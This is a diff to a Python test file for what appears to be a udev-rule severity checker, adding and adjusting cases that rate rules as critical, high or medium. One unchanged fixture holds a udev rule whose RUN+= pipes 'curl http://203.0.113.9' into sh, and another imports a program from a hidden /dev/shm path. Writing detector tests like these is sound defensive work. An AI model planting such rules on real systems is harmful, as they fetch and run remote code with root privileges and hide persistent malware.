@@ -12,7 +12,8 @@ def udev(line: str, *owned: str, path: str = "/etc/udev/rules.d/99.rules") -> li
 
 def test_a_rule_that_starts_what_nobody_brought() -> None:
     assert udev("""ACTION=="add", RUN+="/bin/sh -c 'curl http://203.0.113.9 | sh'\"""") == ["critical"]
-    assert udev('SUBSYSTEM=="net", RUN+="/usr/local/bin/x"') == ["high"]
+    assert udev('SUBSYSTEM=="net", RUN+="/usr/lib/x"') == ["high"]
+    assert udev('SUBSYSTEM=="usb", RUN+="/usr/local/bin/backup"') == ["medium"], "administrators do that"
     assert udev('IMPORT{program}="/dev/shm/.x/k"') == ["critical"]
 
 
